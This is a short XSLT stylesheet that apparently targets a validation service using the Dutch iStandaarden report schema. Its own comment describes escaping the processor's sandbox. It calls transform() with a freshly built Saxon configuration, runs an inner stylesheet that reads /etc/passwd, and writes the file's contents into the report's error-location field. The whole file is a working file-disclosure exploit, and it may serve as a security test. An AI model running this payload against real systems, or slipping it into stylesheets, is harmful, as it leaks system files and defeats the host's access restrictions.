<?xml version="1.0" encoding="UTF-8"?>
<!-- Runs a stylesheet of its own making in a processor of its own making, which knows of no sandbox. -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:r="http://www.istandaarden.nl/validatie/1_1/rapport/schema">
  <xsl:template match="/">
    <xsl:variable name="processor"><configuration xmlns="http://saxon.sf.net/ns/configuration" edition="HE"/></xsl:variable>
    <xsl:variable name="inner">&lt;xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"&gt;
      &lt;xsl:template match="/"&gt;&lt;xsl:value-of select="unparsed-text('file:///etc/passwd')"/&gt;&lt;/xsl:template&gt;&lt;/xsl:stylesheet&gt;</xsl:variable>
    <r:Rapport><r:Fout><r:Code>CS002</r:Code><r:Locatie><xsl:value-of select="transform(map {'stylesheet-text': string($inner), 'source-node': ., 'vendor-options': map {QName('http://saxon.sf.net/', 'configuration'): $processor/*}})?output"/></r:Locatie></r:Fout></r:Rapport>
  </xsl:template>
</xsl:stylesheet>
